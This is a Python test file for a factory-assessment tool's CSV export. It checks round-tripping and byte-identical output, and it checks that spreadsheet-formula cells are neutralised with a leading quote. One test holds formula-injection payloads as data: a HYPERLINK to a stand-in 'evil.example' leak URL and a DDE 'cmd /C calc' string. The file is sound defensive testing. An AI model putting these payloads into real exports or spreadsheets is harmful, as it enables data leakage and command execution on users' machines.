"""Exporting assessments: the programme's format, every distinct row, values as they came."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import text

from bwcases.io.demo import fill_demo
from bwcases.io.exporters import export_assessments, export_by_frames
from bwcases.io.importers import import_file
from bwcases.store import Store
from tests.helpers import EXPORT_HEADER, bw


def distinct_rows(text: str) -> tuple[list[str], set[tuple[str, ...]]]:
    """The header and the set of distinct rows of a CSV text."""
    header, *rows = csv.reader(io.StringIO(text))
    return header, {tuple(r) for r in rows}


def test_export_gives_back_every_distinct_row_as_it_came(
    loaded_store: Store, export_file: Path
) -> None:
    out = io.StringIO()
    count = export_assessments(loaded_store, out)
    header, exported = distinct_rows(out.getvalue())
    _, imported = distinct_rows(export_file.read_text(encoding="utf-8"))
    assert header == EXPORT_HEADER.split(",")
    assert count == len(imported) == 8  # the fixture's exact duplicate once
    assert exported == imported
    by_question = {(r[4], r[8]): r for r in exported}
    assert by_question[("1001", "FGW.01")][11] == "1250"
    assert by_question[("1001", "FGW.01")][7] == "How many workers, in total?"
    assert by_question[("1500", "CMP.MW.01")][12] == "Public Disclosure;Critical"
    assert by_question[("1002", "OSH.EP.01")][3] == "Hanoi Knit (Obsolete)"
    assert by_question[("1002", "OSH.EP.01")][10] == "Systems"
    assert by_question[("1003", "CHL.HW.01")][9] == "Hazardous Work"
    assert by_question[("1003", "CHL.HW.01")][5] == "10/06/2023"


def test_an_export_imported_into_another_store_gives_the_same_findings(
    loaded_store: Store, tmp_path: Path
) -> None:
    exported = tmp_path / "exported.csv"
    with exported.open("w", encoding="utf-8", newline="") as fh:
        export_assessments(loaded_store, fh)
    other = Store(f"sqlite:///{tmp_path / 'other.sqlite'}")
    try:
        assert "8 findings" in import_file(other, "assessments", exported)
        pd.testing.assert_frame_equal(other.findings_frame(), loaded_store.findings_frame())
    finally:
        other.dispose()


def test_the_cli_writes_the_export_to_a_file(
    loaded_store: Store, export_file: Path, tmp_path: Path
) -> None:
    path = tmp_path / "out" / "export.csv"
    path.parent.mkdir()
    result = bw("--db", loaded_store.url, "export", "assessments", "-o", str(path))
    assert result.exit_code == 0, result.output
    assert result.stderr.strip() == f"8 rows written to {path}"
    assert [p.name for p in path.parent.iterdir()] == ["export.csv"]  # no part file left
    text = path.read_text(encoding="utf-8")
    assert distinct_rows(text) == distinct_rows(export_file.read_text(encoding="utf-8"))
    to_stdout = bw("--db", loaded_store.url, "export", "assessments")
    assert to_stdout.exit_code == 0 and to_stdout.stdout == text


def test_an_empty_store_exports_the_header_only(sqlite_store: Store) -> None:
    out = io.StringIO()
    assert export_assessments(sqlite_store, out) == 0
    assert out.getvalue() == EXPORT_HEADER + "\n"


def test_texts_a_spreadsheet_would_run_are_exported_after_a_quote(
    store: Store, tmp_path: Path
) -> None:
    hyperlink = '=HYPERLINK("http://evil.example/?leak","Open")'
    rows = [
        [
            "Vietnam",
            "1",
            "VN001",
            hyperlink,
            "1001",
            "15/03/2023",
            "NCQ",
            "+cmd|' /C calc'!A0",
            "CMP.MW.01",
            "-Minimum Wages",
            "@SUM(1+1)",
            "1",
            "-",
        ],
        [
            "Vietnam",
            "1",
            "VN001",
            hyperlink,
            "1001",
            "15/03/2023",
            "FGW",
            "How many?",
            "FGW.01",
            "Employment Contracts",
            "Contracts",
            "-12.5",
            "",
        ],
        [
            "Vietnam",
            "1",
            "VN001",
            hyperlink,
            "1001",
            "15/03/2023",
            "FGW",
            "Balance?",
            "FGW.02",
            "Employment Contracts",
            "Contracts",
            "-1+2",
            "",
        ],
    ]
    path = tmp_path / "assessments.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows([EXPORT_HEADER.split(","), *rows])
    import_file(store, "assessments", path)
    out = io.StringIO()
    export_assessments(store, out)
    header, exported = distinct_rows(out.getvalue())
    by_question = {r[8]: dict(zip(header, r, strict=True)) for r in exported}
    ncq = by_question["CMP.MW.01"]
    assert ncq["Factory.Assessed.Name"] == "'" + hyperlink
    assert ncq["Q.Label"] == "'+cmd|' /C calc'!A0"
    assert (ncq["CP"], ncq["Cluster"], ncq["Tags"]) == ("'-Minimum Wages", "'@SUM(1+1)", "'-")
    assert ncq["Finding"] == "1"
    assert by_question["FGW.01"]["Finding"] == "-12.5"  # a number, not a formula
    assert by_question["FGW.02"]["Finding"] == "'-1+2"
    assert store.findings_frame().set_index("question_id").loc["CMP.MW.01", "tags"] == "-"


# Cells csv.writer must quote or a spreadsheet would run, beside a demo portfolio's rows.
ODD_CELLS = [
    ["Vietnam", "1", "ODD1", 'Quote "and", comma', "900001", "05/01/2025", "NCQ",
     "Two lines:\nthe second", "ODD.Q.01", "=Overtime", "Working Time", "0", "Public Disclosure;Critical"],
    ["Vietnam", "1", "ODD1", 'Quote "and", comma', "900001", "05/01/2025", "FGW",
     "How many?", "ODD.F.01", "Worker Protection", "Systems", "-1+2", ""],
    ["Vietnam", "1", "ODD1", 'Quote "and", comma', "900001", "05/01/2025", "FGW",
     "Which ones?", "ODD.F.02", "Worker Protection", "Systems", 'cut, "sewn"\r\nand packed', "@x"],
    ["Vietnam", "1", "ODD1", 'Quote "and", comma', "900001", "05/01/2025", "FGW",
     "Left empty?", "ODD.F.03", "Worker Protection", "Systems", "", ""],
]  # fmt: skip


@pytest.mark.parametrize("factories, seed", [(6, 2), (25, 9)])
def test_the_export_is_the_frames_export_byte_for_byte(
    store: Store, tmp_path: Path, factories: int, seed: int
) -> None:
    fill_demo(store, factories=factories, seed=seed)
    path = tmp_path / "odd.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, lineterminator="\n").writerows([EXPORT_HEADER.split(","), *ODD_CELLS])
    import_file(store, "assessments", path)
    streamed, frames = io.StringIO(), io.StringIO()
    count = export_assessments(store, streamed)
    assert count == export_by_frames(store, frames) == store.count_findings() > 4
    assert streamed.getvalue() == frames.getvalue()
    assert "'=Overtime" in streamed.getvalue() and "'-1+2" in streamed.getvalue()


def test_a_finding_the_store_holds_without_a_value_is_exported_as_the_frames_did(
    store: Store, tmp_path: Path
) -> None:
    # an NCQ finding NULL, or neither 0 nor 1: no import writes one, the store's column allows it
    fill_demo(store, factories=3, seed=4)
    with store.engine.begin() as conn:
        quests = conn.exec_driver_sql("SELECT MIN(quest_id), MAX(quest_id) FROM findings").one()
        change = text("UPDATE findings SET finding = :to WHERE quest_id = :quest AND finding = 1")
        conn.execute(change, {"to": None, "quest": quests[0]})
        conn.execute(change, {"to": 2, "quest": quests[1]})
    streamed, frames = io.StringIO(), io.StringIO()
    export_assessments(store, streamed)
    export_by_frames(store, frames)
    assert streamed.getvalue() == frames.getvalue()
    assert "None" not in streamed.getvalue()
